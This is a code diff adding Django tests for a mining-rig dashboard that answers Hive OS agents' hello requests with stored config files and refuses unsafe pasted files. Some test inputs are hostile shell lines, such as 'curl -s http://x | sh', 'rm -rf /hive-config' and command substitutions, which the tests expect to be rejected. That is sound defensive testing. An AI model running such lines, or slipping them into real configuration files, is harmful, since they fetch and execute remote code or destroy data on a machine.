@@ -17,8 +17,8 @@ from django.contrib.auth import get_user_model
 from django.test import Client
 
 from accounts.models import hash_token
-from rigs.formats import hiveos
-from rigs.models import Gpu, GpuSample, Rig
+from rigs.formats import hiveos, hiveos_conf
+from rigs.models import Gpu, GpuSample, HiveConfig, Rig
 from rigs.services import hive_agent
 from tests.factories import RigFactory, logged_in
 
@@ -198,7 +198,7 @@ def test_hello_stores_the_hardware_and_leaves_the_rigs_configuration_alone(rig, 
     # An error, so that hello writes none of rig.conf, wallet.conf, nvidia-oc.conf, amd-oc.conf.
     assert answer["id"] == 0 and "result" not in answer
     assert answer["error"]["code"] == -32002
-    assert "does not manage" in answer["error"]["message"]
+    assert "no copy of this rig's rig.conf" in answer["error"]["message"]
     gpus = by_bus(rig)
     assert {bus: (g.name, g.vendor, g.memory_mb) for bus, g in gpus.items()} == {
         1: ("GeForce RTX 3070", "NVIDIA", 8192),
@@ -525,3 +525,351 @@ def test_the_rig_page_shows_what_the_agent_said(alpha):
     assert "ASRock H110 Pro BTC+" in page and "load 0.52 / 0.44 / 0.41" in page
     assert "2650 of 3842 MB free" in page and "12.0\xa0GB free" in page
     assert f"/rigs/{alpha.rig.pk}/hive-password/" in page
+
+
+# -- hello answered with the rig's own files --------------------------------------------------
+
+HIVE_CONFIG = FIXTURES / "hive-config"
+PASTED_PASSWORD = "Xk2f9QpLs0"  # RIG_PASSWD of the Hive rig.conf fixture
+# What hive/bin/hello does with its answer, in our own shell: it reads each value with
+# `echo $response | jq ".result.<key>" --raw-output`, the response unquoted; without a config it
+# stops (exit 3 here) and writes nothing; it writes rig.conf from `config`, wallet.conf and
+# autofan.conf when the answer has them (else keeps them), nvidia-oc.conf and amd-oc.conf when
+# the answer has them and deletes them when it has not. Each file is written `echo "$value" >`.
+HELLO_SAVES = (
+    f"response=$({AGENT_HELLO})"
+    + """
+answer() { local v; v=$(echo $response | jq ".result.$1" --raw-output) || exit 9
+  [ "$v" != null ] && printf '%s' "$v"; }
+config=$(answer config); [ -n "$config" ] || { echo "$response"; exit 3; }
+echo "$config" > rig.conf
+for pair in wallet:wallet.conf autofan:autofan.conf nvidia_oc:nvidia-oc.conf amd_oc:amd-oc.conf
+do
+  value=$(answer ${pair%%:*}); file=${pair#*:}
+  if [ -n "$value" ]; then echo "$value" > $file
+  elif [ $file = nvidia-oc.conf ] || [ $file = amd-oc.conf ]; then rm -f $file; fi
+done
+"""
+)
+
+
+def conf(name):
+    return (HIVE_CONFIG / name).read_text()
+
+
+def store_files(rig, *names, confirmed=True):
+    field_of = {name: field for field, name in hive_agent.FILE_NAMES.items()}
+    fields = {field_of[n]: conf(n) for n in names if n != "rig.conf"}
+    return hive_agent.save_hive_config(
+        rig=rig, rig_conf=conf("rig.conf"), oc_files_confirmed=confirmed, **fields
+    )
+
+
+ALL_FILES = ("rig.conf", "wallet.conf", "nvidia-oc.conf", "amd-oc.conf", "autofan.conf")
+
+
+def test_the_fixture_files_are_key_value_lines_and_keep_every_line():
+    for name in ALL_FILES:
+        assert hiveos_conf.render(hiveos_conf.parse(conf(name))) == conf(name), name
+    assert "WORKER_NAME" in hiveos_conf.keys(conf("rig.conf"))
+    # wallet.conf's user config spans two lines and is one assignment.
+    assert hiveos_conf.keys(conf("wallet.conf")).count("LOLMINER_USER_CONFIG") == 1
+
+
+@pytest.mark.parametrize(
+    ("text", "why"),
+    [
+        ("MINER=lolminer\nrm -rf /hive-config\n", "line 2: not a KEY=value line"),
+        ("export MINER=lolminer\n", "not a KEY=value line"),
+        ("MINER = lolminer\n", "not a KEY=value line"),
+        ("MINER=lolminer; reboot\n", "';' in the value"),
+        ("MINER=$(curl -s http://x | sh)\n", "command substitution"),
+        ('WORKER_NAME="`hostname`"\n', "command substitution"),
+        ('WORKER_NAME="rig $(id)"\n', "command substitution"),
+        ("MINER=lolminer MINER2=trex\n", "one KEY=value a line"),
+        ("MINER=x|sh\n", "'|' in the value"),
+        ('WD_MINHASHES=\'{"lolminer":1}\n', "never closed"),
+        ("<html><body>502 Bad Gateway</body></html>\n", "not a KEY=value line"),
+    ],
+)
+def test_a_file_that_is_not_key_value_lines_is_refused(text, why):
+    with pytest.raises(hiveos_conf.ConfError, match=why.replace("(", r"\(").replace("|", r"\|")):
+        hiveos_conf.parse(text)
+
+
+def test_values_written_back_read_the_same_in_bash(tmp_path):
+    values = {"HIVE_HOST_URL": "http://10.0.0.5:8000", "RIG_ID": "12",
+              "RIG_PASSWD": "it's $HOME `id` \"q\" \\ ünï"}  # fmt: skip
+    text = hiveos_conf.with_values("# rig\nRIG_ID=99\nMINER=lolminer\nRIG_ID=98\n", values)
+    (tmp_path / "rig.conf").write_text(text)
+    shown = subprocess.run(
+        ["bash", "-c", '. ./rig.conf; printf "%s\\n" "$HIVE_HOST_URL" "$RIG_ID" "$RIG_PASSWD" '
+         '"$MINER"'],
+        cwd=tmp_path, capture_output=True, text=True, check=True,
+    ).stdout.splitlines()  # fmt: skip
+    assert shown == [*values.values(), "lolminer"]
+    # RIG_ID rewritten in place, its later duplicate dropped, the missing keys beside it.
+    assert text.splitlines()[:3] == ["# rig", "RIG_ID=12", 'HIVE_HOST_URL="http://10.0.0.5:8000"']
+
+
+def test_the_pasted_rig_password_is_never_stored(rig):
+    pasted = conf("rig.conf") + '#RIG_PASSWD="an-older-one"\n'
+    config, removed = hive_agent.save_hive_config(rig=rig, rig_conf=pasted, oc_files_confirmed=True)
+    assert removed == 2
+    stored = HiveConfig.objects.filter(pk=config.pk).values().get()
+    assert not any(PASTED_PASSWORD in str(v) or "an-older-one" in str(v) for v in stored.values())
+    # Left as a bare RIG_PASSWD= where it was; every other line as pasted, comments included.
+    assert stored["rig_conf"] == conf("rig.conf").replace(f'"{PASTED_PASSWORD}"', "")
+
+
+def test_a_rig_conf_of_only_the_lines_ethdash_sets_is_refused(rig):
+    snippet = 'HIVE_HOST_URL="https://ethdash.example"\nRIG_ID=7\nRIG_PASSWD="x"\n'
+    with pytest.raises(hiveos_conf.ConfError, match="paste the whole file"):
+        hive_agent.save_hive_config(rig=rig, rig_conf=snippet, oc_files_confirmed=True)
+    assert not HiveConfig.objects.exists()
+
+
+def test_hello_is_answered_with_the_rigs_files_in_the_shape_hello_reads(rig, password):
+    store_files(rig, *ALL_FILES)
+
+    response = post(Client(), rig, fixture("hello", rig, password), method="hello",
+                    content_type="application/json")  # fmt: skip
+
+    assert response.status_code == 200
+    answer = response.json()
+    assert set(answer) == {"jsonrpc", "id", "result"} and answer["id"] == 0
+    result = answer["result"]
+    assert set(result) == {"config", "wallet", "nvidia_oc", "amd_oc", "autofan"}
+    assert result["config"] == (
+        conf("rig.conf")
+        .replace(
+            'HIVE_HOST_URL="http://api.hiveos.farm"', 'HIVE_HOST_URL="https://ethdash.example"'
+        )
+        .replace("RIG_ID=7310425", f"RIG_ID={rig.pk}")
+        .replace(f'RIG_PASSWD="{PASTED_PASSWORD}"', f'RIG_PASSWD="{password}"')
+        .rstrip("\n")  # hello's `echo "$config" > rig.conf` ends the file with its newline
+    )
+    assert result["wallet"] == conf("wallet.conf").rstrip("\n")
+    assert result["nvidia_oc"] == conf("nvidia-oc.conf").rstrip("\n")
+    assert result["amd_oc"] == conf("amd-oc.conf").rstrip("\n")
+    assert result["autofan"] == conf("autofan.conf").rstrip("\n")
+    assert set(by_bus(rig)) == {1, 3, 10}  # the hardware is stored as before
+    # No space between tokens, none inside strings: `echo $response` leaves the text whole.
+    assert b" " not in response.content
+
+
+@pytest.mark.parametrize(
+    "names",
+    [("rig.conf",), ("rig.conf", "wallet.conf"), ("rig.conf", "nvidia-oc.conf", "autofan.conf")],
+)
+def test_hello_answers_only_the_files_stored(rig, password, names):
+    store_files(rig, *names)
+    result = post(Client(), rig, fixture("hello", rig, password), method="hello").json()["result"]
+    answer_key = {"rig.conf": "config", "wallet.conf": "wallet", "nvidia-oc.conf": "nvidia_oc",
+                  "amd-oc.conf": "amd_oc", "autofan.conf": "autofan"}  # fmt: skip
+    assert set(result) == {answer_key[n] for n in names}
+
+
+@pytest.mark.parametrize(
+    ("confirmed", "server_url", "why"),
+    [
+        (False, "https://ethdash.example", "not confirmed complete"),
+        (True, "ethdash.example", "not an http(s) URL"),
+        (True, 'https://ethdash.example"; reboot; "', "not an http(s) URL"),
+        (True, None, "not an http(s) URL"),
+    ],
+)
+def test_hello_is_answered_with_an_error_when_ethdash_cannot_give_the_files(
+    rig, password, confirmed, server_url, why
+):
+    store_files(rig, *ALL_FILES, confirmed=confirmed)
+    body = fixture("hello", rig, password)
+    body["params"]["server_url"] = server_url
+    answer = post(Client(), rig, body, method="hello").json()
+    assert "result" not in answer and answer["error"]["code"] == -32002
+    assert why in answer["error"]["message"]
+
+
+def test_the_agents_hello_writes_the_rigs_files_back_byte_for_byte_and_keeps_reporting(
+    transactional_db, live_server, tmp_path
+):
+    rig = RigFactory(name="curl-rig")
+    password = hive_agent.set_hive_password(rig)
+    store_files(rig, *ALL_FILES)
+    hello = fixture("hello", rig, password)
+    hello["params"]["server_url"] = live_server.url  # the agent sends its HIVE_HOST_URL
+    for name in ALL_FILES:  # what the rig has before: the same files, older
+        (tmp_path / name).write_text("OLD=1\n")
+    env = {"PATH": os.environ["PATH"], "HIVE_URL": f"{live_server.url}/worker/api",
+           "RIG_ID": str(rig.pk), "request": json.dumps(hello, indent=2)}  # fmt: skip
+
+    done = subprocess.run(["bash", "-c", HELLO_SAVES], env=env, cwd=tmp_path,
+                          capture_output=True, text=True, timeout=30)  # fmt: skip
+
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert (tmp_path / "rig.conf").read_text() == (
+        conf("rig.conf")
+        .replace('HIVE_HOST_URL="http://api.hiveos.farm"', f'HIVE_HOST_URL="{live_server.url}"')
+        .replace("RIG_ID=7310425", f"RIG_ID={rig.pk}")
+        .replace(f'RIG_PASSWD="{PASTED_PASSWORD}"', f'RIG_PASSWD="{password}"')
+    )
+    for name in ALL_FILES[1:]:  # the two spaces and the two-line value of wallet.conf included
+        assert (tmp_path / name).read_text() == conf(name), name
+
+    # The agent's next loop sources the new rig.conf and reports with what it says.
+    stats = compact(fixture("stats"))
+    script = (
+        '. ./rig.conf; HIVE_URL="$HIVE_HOST_URL/worker/api"; '
+        'request=$(echo "$stats" | jq -c --arg r "$RIG_ID" --arg p "$RIG_PASSWD" '
+        "'.params.rig_id=$r | .params.passwd=$p'); " + AGENT_STATS_PLAIN
+    )
+    env = {"PATH": os.environ["PATH"], "stats": stats}
+    answer = subprocess.run(["bash", "-c", script], env=env, cwd=tmp_path, capture_output=True,
+                            timeout=30)  # fmt: skip
+    assert json.loads(answer.stdout)["result"] == {"command": "OK"}
+    assert GpuSample.objects.filter(gpu__rig=rig).count() == 3
+
+
+def test_a_hello_answer_without_the_oc_files_deletes_them_on_the_rig_as_hive_does(
+    transactional_db, live_server, tmp_path
+):
+    rig = RigFactory(name="curl-rig")
+    password = hive_agent.set_hive_password(rig)
+    store_files(rig, "rig.conf")  # confirmed: the owner says the rig has no OC files
+    hello = fixture("hello", rig, password)
+    hello["params"]["server_url"] = live_server.url
+    for name in ALL_FILES:
+        (tmp_path / name).write_text(conf(name))
+    env = {"PATH": os.environ["PATH"], "HIVE_URL": f"{live_server.url}/worker/api",
+           "RIG_ID": str(rig.pk), "request": json.dumps(hello, indent=2)}  # fmt: skip
+
+    subprocess.run(["bash", "-c", HELLO_SAVES], env=env, cwd=tmp_path, check=True, timeout=30)
+
+    left = {p.name for p in tmp_path.iterdir()}
+    assert left == {"rig.conf", "wallet.conf", "autofan.conf"}
+    assert (tmp_path / "wallet.conf").read_text() == conf("wallet.conf")  # kept as it was
+
+
+def test_without_stored_files_the_agents_hello_changes_no_file(
+    transactional_db, live_server, tmp_path
+):
+    rig = RigFactory(name="curl-rig")
+    password = hive_agent.set_hive_password(rig)
+    for name in ALL_FILES:
+        (tmp_path / name).write_text(conf(name))
+    env = {"PATH": os.environ["PATH"], "HIVE_URL": f"{live_server.url}/worker/api",
+           "RIG_ID": str(rig.pk), "request": compact(fixture("hello", rig, password))}  # fmt: skip
+
+    done = subprocess.run(["bash", "-c", HELLO_SAVES], env=env, cwd=tmp_path, timeout=30,
+                          capture_output=True, text=True)  # fmt: skip
+
+    assert done.returncode == 3 and '"code":-32002' in done.stdout  # hello stops at the error
+    assert {p.name: p.read_text() for p in tmp_path.iterdir()} == {n: conf(n) for n in ALL_FILES}
+
+
+# -- the Hive OS files page -------------------------------------------------------------------
+
+
+def page_form(**overrides):
+    data = {"rig_conf": conf("rig.conf"), "wallet_conf": conf("wallet.conf"),
+            "nvidia_oc_conf": conf("nvidia-oc.conf"), "amd_oc_conf": conf("amd-oc.conf"),
+            "autofan_conf": "", "oc_files_confirmed": "on", "save": ""}  # fmt: skip
+    data.update(overrides)
+    return {k: v for k, v in data.items() if v is not None}
+
+
+def test_the_owner_pastes_the_rigs_files_and_hello_gets_them(alpha):
+    client = logged_in(alpha.owner)
+    url = f"/rigs/{alpha.rig.pk}/hive-config/"
+    page = client.get(url).content.decode()
+    assert "No files of this rig are stored" in page and "cat /hive-config/rig.conf" in page
+
+    response = client.post(url, page_form(), follow=True)
+
+    page = response.content.decode()
+    assert "RIG_PASSWD taken out of 1 line(s)" in page
+    assert "hello is answered with: rig.conf, wallet.conf, nvidia-oc.conf, amd-oc.conf" in page
+    assert PASTED_PASSWORD not in page and "LOLMINER_TEMPLATE" in page  # owners see the files
+    config = HiveConfig.objects.get(rig=alpha.rig)
+    assert config.oc_files_confirmed and config.autofan_conf == ""
+    assert PASTED_PASSWORD not in config.rig_conf
+    password = hive_agent.set_hive_password(alpha.rig)
+    result = post(Client(), alpha.rig, fixture("hello", alpha.rig, password), method="hello")
+    assert set(result.json()["result"]) == {"config", "wallet", "nvidia_oc", "amd_oc"}
+
+
+@pytest.mark.parametrize(
+    ("overrides", "field_error"),
+    [
+        ({"rig_conf": conf("rig.conf") + "curl -s http://x | sh\n"}, "not a KEY=value line"),
+        ({"nvidia_oc_conf": 'CLOCK="$(reboot)"\n'}, "command substitution"),
+        ({"rig_conf": 'RIG_ID=7\nRIG_PASSWD="x"\n'}, "paste the whole file"),
+        ({"oc_files_confirmed": None}, "This field is required"),
+        ({"rig_conf": ""}, "This field is required"),
+    ],
+    ids=["command-line", "oc-substitution", "only-ethdash-keys", "unconfirmed", "no-rig-conf"],
+)
+def test_the_page_refuses_what_is_not_the_rigs_files_and_stores_nothing(
+    alpha, overrides, field_error
+):
+    response = logged_in(alpha.owner).post(
+        f"/rigs/{alpha.rig.pk}/hive-config/", page_form(**overrides)
+    )
+    assert response.status_code == 200
+    assert field_error in response.content.decode()
+    assert not HiveConfig.objects.exists()
+
+
+def test_the_page_warns_that_an_oc_file_not_pasted_is_deleted(alpha):
+    store_files(alpha.rig, "rig.conf", "nvidia-oc.conf")
+    page = logged_in(alpha.owner).get(f"/rigs/{alpha.rig.pk}/hive-config/").content.decode()
+    assert "The next hello deletes the rig's amd-oc.conf" in page
+
+
+def test_the_owner_forgets_the_files_and_hello_writes_nothing_again(alpha):
+    store_files(alpha.rig, *ALL_FILES)
+    logged_in(alpha.owner).post(f"/rigs/{alpha.rig.pk}/hive-config/", {"remove": ""})
+    assert not HiveConfig.objects.exists()
+    password = hive_agent.set_hive_password(alpha.rig)
+    answer = post(Client(), alpha.rig, fixture("hello", alpha.rig, password), method="hello")
+    assert answer.json()["error"]["code"] == -32002
+
+
+def test_a_viewer_sees_which_files_are_stored_but_not_their_content(alpha):
+    store_files(alpha.rig, "rig.conf", "wallet.conf")
+    client = logged_in(alpha.viewer)
+    page = client.get(f"/rigs/{alpha.rig.pk}/hive-config/").content.decode()
+    assert "hello is answered with: rig.conf, wallet.conf" in page
+    assert "0x7d3a1c9e" not in page and "WORKER_NAME" not in page and "<textarea" not in page
+    for data in (page_form(rig_conf="MINER=trex\n"), {"remove": ""}):
+        assert client.post(f"/rigs/{alpha.rig.pk}/hive-config/", data).status_code == 403
+    assert HiveConfig.objects.get(rig=alpha.rig).rig_conf.startswith("### MINERS HIVE CONFIGS")
+
+
+def test_another_farms_owner_cannot_see_or_change_the_rigs_files(alpha, bravo):
+    store_files(alpha.rig, *ALL_FILES)
+    before = HiveConfig.objects.filter(rig=alpha.rig).values().get()
+    client = logged_in(bravo.owner)
+    url = f"/rigs/{alpha.rig.pk}/hive-config/"
+    assert client.get(url).status_code == 404
+    assert client.post(url, page_form(rig_conf="MINER=trex\n")).status_code == 404
+    assert client.post(url, {"remove": ""}).status_code == 404
+    assert HiveConfig.objects.filter(rig=alpha.rig).values().get() == before
+
+
+def test_the_simulated_agent_sends_its_server_url_and_gets_the_rigs_files(
+    transactional_db, live_server, caplog
+):
+    from simulators.rig_agent import HiveAgentRig, SimulatedRig, run
+
+    rig = RigFactory(name="simulated-hive-rig")
+    password = hive_agent.set_hive_password(rig)
+    store_files(rig, "rig.conf", "wallet.conf")
+    simulated = SimulatedRig(str(rig.pk), 2, "rtx3070", cadence=0.3)
+    assert HiveAgentRig(simulated, password).hello_body("http://x")["params"]["server_url"]
+
+    with caplog.at_level("INFO", logger="rig_agent"):
+        run(live_server.url, None, [simulated], cadence=0.3, duration=0.5,
+            hive={str(rig.pk): password})  # fmt: skip
+
+    assert f"rig {rig.pk}: hello answered with ['config', 'wallet']" in caplog.text
